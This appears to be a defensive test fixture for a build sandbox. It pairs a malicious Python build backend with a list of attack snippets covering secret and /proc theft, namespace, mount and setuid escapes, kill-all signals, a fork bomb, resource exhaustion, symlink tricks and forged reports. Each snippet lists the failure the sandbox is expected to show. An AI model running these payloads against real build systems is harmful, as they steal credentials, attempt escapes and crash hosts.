"""Projects whose build attacks whoever builds them. Each attack is the body of a function that runs in the build.

It has `out` (the folder of results), `loot(anything)` (what is carried out by every way there is), and of `target`: the
paths of planted secrets, the ports and sockets that listen outside, and a mark for processes that are to stay.
"""

# ruff: noqa: E501 - programs, each on as many lines as it is easy to read on

from __future__ import annotations

from dataclasses import dataclass

MIB = 1024 * 1024

BACKEND = '''\
"""A build backend that makes honest files, after it has attacked."""
import io, os, sys, tarfile, textwrap, zipfile
import target

LOOT = []

def loot(what):
    LOOT.append(repr(what)[:2_000_000])

def attack(out):
{attack}

def _carry():
    sys.stdout.write("".join(LOOT)[-3000:] + "\\n")
    sys.stderr.write("".join(LOOT)[-3000:] + "\\n")
    sys.stdout.flush(); sys.stderr.flush()
    return "".join(LOOT)

META = (
    "Metadata-Version: 2.1\\nName: widget\\nVersion: 1.1.0\\nSummary: made by a backend of its own\\n"
    "Description-Content-Type: text/markdown\\n\\nNothing to see here.\\n"
)

def build_sdist(out, config_settings=None):
    try:
        attack(out)
    except Exception as error:
        loot(error)
        if getattr(error, "fatal", False):
            raise
    name = "widget-1.1.0.tar.gz"
    with tarfile.open(os.path.join(out, name), "w:gz") as archive:
        files = {{"PKG-INFO": META, "loot.txt": _carry()}}
        for each in ("pyproject.toml", "evil.py", "target.py"):
            files[each] = open(each).read()
        for path, text in files.items():
            member = tarfile.TarInfo("widget-1.1.0/" + path)
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return name

def build_wheel(out, config_settings=None, metadata_directory=None):
    name = "widget-1.1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(out, name), "w") as archive:
        archive.writestr("widget.py", "x = 1\\n")
        archive.writestr("loot.txt", open("loot.txt").read())
        info = "widget-1.1.0.dist-info/"
        archive.writestr(info + "METADATA", META)
        archive.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        archive.writestr(info + "RECORD", "")
    return name
'''
PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n[project]\nname = "widget"\nversion = "1.1.0"\n'


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """`code` runs in the build. `ends` are words of the problem that the build ends with; empty: it builds and has got
    nothing. `loots` are words that prove that the attack did run to where it should.
    """

    name: str
    code: str
    ends: str = ""
    loots: str = ""
    seconds: int = 20
    memory: int = 512 * MIB
    disk: int = 256 * MIB


_STAY = (
    "import subprocess; left = subprocess.Popen("
    "[sys.executable, '-c', {code!r}, target.MARK], start_new_session=True, stdout=subprocess.PIPE)"
)
_PROC = """
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try: loot(open("/proc/%s/{file}" % pid, "rb").read(1 << 20))
        except OSError as error: loot(error)
loot("read everything")
"""
_LIBC = "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"

ATTACKS = (
    Attack(name="environment", code="loot(dict(os.environ)); loot('done')", loots="done"),
    Attack(name="environments in proc", code=_PROC.format(file="environ"), loots="read everything"),
    Attack(name="command lines in proc", code=_PROC.format(file="cmdline"), loots="read everything"),
    Attack(
        name="memory of process 1",
        code="for name in ('maps', 'mem', 'environ', 'fd', 'root', 'cwd', 'exe'):\n"
        "    path = '/proc/1/' + name\n"
        "    try: loot(os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(4096))\n"
        "    except OSError as error: loot((name, error))\nloot('tried')",
        loots="tried",
    ),
    Attack(
        name="home, keys, tokens, state",
        code="for path in target.SECRETS:\n"
        "    for way in (path, '/proc/1/root' + path, '/proc/self/root' + path, '../../../../../..' + path):\n"
        "        try: loot(open(way, 'rb').read())\n        except OSError as error: loot(error)\nloot('tried')",
        loots="tried",
    ),
    Attack(
        name="every file there is",
        code="for folder, folders, names in os.walk('/'):\n"
        "    if folder == '/': folders[:] = [f for f in folders if f not in ('usr', 'proc', 'sys', 'dev')]\n"
        "    folders[:] = [f for f in folders if os.path.join(folder, f) not in (sys.base_prefix, '/front/lib')]\n"
        "    for name in names:\n"
        "        try:\n"
        "            data = open(os.path.join(folder, name), 'rb').read(1 << 20)\n"
        "            if b'planted' in data or name in ('shadow', 'passwd'): loot((folder, name, data))\n"
        "        except OSError: pass\nloot('walked')",
        loots="walked",
    ),
    Attack(
        name="descriptors of others",
        code="for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n"
        "            for fd in os.listdir('/proc/%s/fd' % pid):\n"
        "                way = '/proc/%s/fd/%s' % (pid, fd)\n"
        "                loot(os.readlink(way))\n"
        "                if os.path.isfile(way): loot(open(way, 'rb').read(1 << 16)[:4096])\n"
        "        except OSError as error: loot(error)\nloot('tried')",
        loots="tried",
    ),
    Attack(
        name="loopback",
        code="import socket\nfor host in ('127.0.0.1', '::1', 'localhost', *target.ADDRESSES):\n"
        "    try:\n"
        "        with socket.create_connection((host, target.PORT), 1) as s: s.sendall(b'hello'); loot('connected')\n"
        "    except OSError as error: loot(error)\nloot('knocked')",
        loots="knocked",
    ),
    Attack(
        name="datagrams",
        code="import socket\nfor host in ('127.0.0.1', *target.ADDRESSES, '192.0.2.1', '255.255.255.255'):\n"
        "    try:\n"
        "        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b'hello', (host, target.PORT))\n"
        "    except OSError as error: loot(error)\nloot('sent')",
        loots="sent",
    ),
    Attack(
        name="unix sockets",
        code="import socket\nfor place in (target.SOCKET, '\\0' + target.ABSTRACT):\n"
        "    try:\n"
        "        with socket.socket(socket.AF_UNIX) as s: s.connect(place); s.sendall(b'hello'); loot('connected')\n"
        "    except OSError as error: loot(error)\nloot('knocked')",
        loots="knocked",
    ),
    Attack(
        name="names in DNS",
        code="import socket\ntry: loot(socket.getaddrinfo('planted.example', 80))\nexcept OSError as error: loot('no answer')",
        loots="no answer",
    ),
    Attack(
        name="network namespaces",
        code=_LIBC + "for name in ('net', 'mnt', 'pid', 'user'):\n"
        "    for pid in (1, os.getppid()):\n"
        "        try: loot(libc.setns(os.open('/proc/%d/ns/%s' % (pid, name), os.O_RDONLY), 0))\n"
        "        except OSError as error: loot(error)\n"
        "loot(('unshared', [libc.unshare(flag) for flag in (0x40000000, 0x20000, 0x20000000)]))",
        loots="('unshared', [-1, -1, -1])",
    ),
    Attack(
        name="a user namespace of its own",
        code=_LIBC + "loot(('namespace', libc.unshare(0x10000000)))",
        loots="('namespace', -1)",
    ),
    Attack(
        name="mounts",
        code=_LIBC + "os.mkdir('/build/m')\n"
        "loot(('mounts', [libc.mount(b'none', b'/build/m', b'tmpfs', 0, None), libc.mount(b'/', b'/', None, 0x1020, None),"
        " libc.mount(b'proc', b'/build/m', b'proc', 0, None), libc.umount2(b'/proc', 2), libc.chroot(b'/build/m')]))",
        loots="('mounts', [-1, -1, -1, -1, -1])",
    ),
    Attack(
        name="set-user-id programs",
        code="import shutil, subprocess\n"
        "shutil.copy('/bin/cat', '/build/cat'); os.chmod('/build/cat', 0o6755)\n"
        "for command in (['su', '-c', 'cat /etc/shadow'], ['sudo', '-n', 'id'], ['/build/cat', *target.SECRETS]):\n"
        "    try: loot(subprocess.run(command, capture_output=True, timeout=5, stdin=subprocess.DEVNULL))\n"
        "    except Exception as error: loot(error)\n"
        "for change in (os.setuid, os.setgid):\n"
        "    try: change(0); loot('became root')\n    except OSError as error: loot(error)\nloot('tried')",
        loots="tried",
    ),
    Attack(
        name="ptrace",
        code=_LIBC + "loot(('traced', [libc.ptrace(16, pid, 0, 0) for pid in (1,)]))",
        loots="('traced', [-1])",
    ),
    Attack(
        name="signals to process 1",
        code="import signal\n"
        "for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGCHLD):\n"
        "    os.kill(1, number)\n"
        "child = os.fork() or os._exit(0)  # without its process 1 no process could begin\n"
        "os.waitpid(child, 0); loot('signalled')",
        loots="signalled",
    ),
    Attack(name="signals to all", code="import signal\nos.kill(-1, signal.SIGKILL)", ends="was ended by signal 9"),
    Attack(
        name="stops all",
        code="import signal\nos.kill(-1, signal.SIGSTOP)\nwhile True: pass",
        ends="build.time",
        seconds=3,
    ),
    Attack(
        name="fork bomb",
        code="while True:\n    try:\n        os.fork()\n    except OSError: pass",
        ends="more processes and threads",
        memory=16 * 1024 * MIB,
    ),
    Attack(
        name="threads",
        code="import threading\nthreading.stack_size(65536); never = threading.Event()\n"
        "for _ in range(5000): threading.Thread(target=never.wait, daemon=True).start()\nnever.wait()",
        ends="more processes and threads",
        memory=2048 * MIB,
    ),
    Attack(
        name="a daemon that stays",
        code=_STAY.format(
            code="import os, signal\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
            "for fd in range(256):\n    try: os.close(fd)\n    except OSError: pass\n"
            "signal.pause()"
        )
        + "\nleft.stdout.read(); loot('left it')",  # read to the end: it has closed all that it had
        loots="left it",
    ),
    Attack(
        name="a thousand that stay",
        code="import subprocess\n"
        "for _ in range(100): subprocess.Popen(['sleep', '600', '--', target.MARK][:2], start_new_session=True)\n"
        + _STAY.format(code="import signal; signal.pause()")
        + "\nloot('left them')",
        loots="left them",
    ),
    Attack(name="memory", code="hoard = bytearray()\nwhile True: hoard += bytes(1 << 20)", ends="build.memory"),
    Attack(
        name="memory of many processes",
        code="import signal\nfor _ in range(20):\n    if os.fork() == 0:\n        hoard = b'x' * (60 << 20); signal.pause()\nsignal.pause()",
        ends="build.memory",
    ),
    Attack(name="one mapping of everything", code="hoard = bytearray(8 << 30); loot('mapped')", loots="MemoryError"),
    Attack(
        name="disk",
        code="import signal\nfor number in range(64):\n"
        "    try:\n        with open('/build/%d' % number, 'wb') as f:\n            for _ in range(64): f.write(bytes(1 << 20))\n"
        "    except OSError: signal.pause()",
        ends="build.disk",
    ),
    Attack(
        name="a sparse file beyond all bounds",
        code="with open('/build/sparse', 'wb') as f: f.truncate(1 << 40)\nloot('made')",
        loots="File too large",
    ),
    Attack(
        name="files without end",
        code="number = 0\nwhile True:\n    number += 1\n    os.close(os.open('/build/tmp/%d' % number, os.O_CREAT))",
        ends="build.disk",
        seconds=60,
    ),
    Attack(
        name="shared memory",
        code="for place in ('/dev/shm', '/dev', '/', '/front', '/run'):\n"
        "    try:\n        with open(place + '/hoard', 'wb') as f:\n            for _ in range(2048): f.write(bytes(1 << 20))\n"
        "        loot('unbounded ' + place)\n    except OSError as error: loot((place, error.errno))\nloot('full')",
        loots="full",
    ),
    Attack(name="an endless loop", code="while True: pass", ends="build.time", seconds=3),
    Attack(
        name="a flood of output",
        code="import time\nend = time.monotonic() + 2\nwhile time.monotonic() < end:\n"
        "    os.write(1, b'flood ' * 10000); os.write(2, b'flood ' * 10000)\nraise SystemExit('over')",
        ends="The build ended",
        memory=256 * MIB,
    ),
    Attack(
        name="terminal sequences",
        code="os.write(2, b'\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred\\x1b[0m \\x9b31m\\xe2\\x80\\xaeevil\\x00\\r\\x08\\n')\n"
        "raise SystemExit('over \\x1b[1mbold')",
        ends="The build ended",
    ),
    Attack(
        name="tokens in the output",
        code="os.write(2, b'glpat-' + b'A1b2C3d4E5f6G7h8' + b' pypi-' + b'AgEIcHlwaS5vcmcCJDUw' + b'\\n')\nraise SystemExit(1)",
        ends="[hidden]",
    ),
    Attack(
        name="writes outside",
        code="for folder in ('/', '/usr', '/usr/bin', '/etc', '/front', '/front/programs', '/wheelhouse', '/dev', '/proc',"
        " *map(os.path.dirname, target.SECRETS)):\n"
        "    try:\n        open(folder + '/planted-by-build', 'w').write('x'); loot('wrote in ' + folder)\n"
        "    except OSError as error: loot(error)\nloot('tried')",
        loots="tried",
    ),
    Attack(
        name="a link as a wheel",
        code="os.symlink(target.SECRETS[0], out + '/widget-9-py3-none-any.whl')",
        ends="no plain file",
    ),
    Attack(
        name="a link to a file inside",
        code="os.symlink('/usr/bin/env', out + '/widget-9-py3-none-any.whl')",
        ends="no plain file",
    ),
    Attack(name="a folder as a wheel", code="os.mkdir(out + '/widget-9-py3-none-any.whl')", ends="no plain file"),
    Attack(name="a pipe as a wheel", code="os.mkfifo(out + '/widget-9-py3-none-any.whl')", ends="no plain file"),
    Attack(
        name="a socket as a wheel",
        code="import socket\nsocket.socket(socket.AF_UNIX).bind(out + '/widget-9-py3-none-any.whl')",
        ends="no plain file",
    ),
    Attack(
        name="more results than anybody makes",
        code="for number in range(5000): open(out + '/widget-%d-py3-none-any.whl' % number, 'w')",
        ends="no plain file",
    ),
    Attack(
        name="the results' folder itself a link",
        code="import shutil\nshutil.rmtree(out); os.symlink('/usr/bin', out)\nraise SystemExit('gone')",
        ends="The build ended",
    ),
    Attack(
        name="forged words",
        code="os.unlink('/build/said.json'); os.symlink('/proc/1/environ', '/build/said.json')\nraise SystemExit('forged')",
        ends="The build ended",
    ),
    Attack(
        name="words without end",
        code="os.unlink('/build/said.json'); os.mkfifo('/build/said.json')\nraise SystemExit('forged')",
        ends="The build ended",
    ),
    Attack(
        name="a report of its own",
        code="for pid in (1, os.getppid()):\n"
        "    for number in range(64):\n"
        "        try: os.write(os.open('/proc/%d/fd/%d' % (pid, number), os.O_WRONLY), b'{\"code\": 0, \"peak\": 1}')\n"
        "        except OSError: pass\n"
        "for number in range(3, 64):\n    try: os.write(number, b'{\"code\": 0}')\n    except OSError: pass\n"
        "raise SystemExit('reported')",
        ends="The build ended",
    ),
    Attack(
        name="tools exchanged",
        code="for path in (os.path.realpath(sys.executable), '/front/bin/python', '/front/programs/make.py', '/front/programs/supervise.py'):\n"
        "    for do in (os.unlink, lambda p: open(p, 'w').close(), lambda p: os.rename(p, p + '.old')):\n"
        "        try: do(path); loot('exchanged ' + path)\n        except OSError as error: loot(error)\nloot('tried')",
        loots="tried",
    ),
)
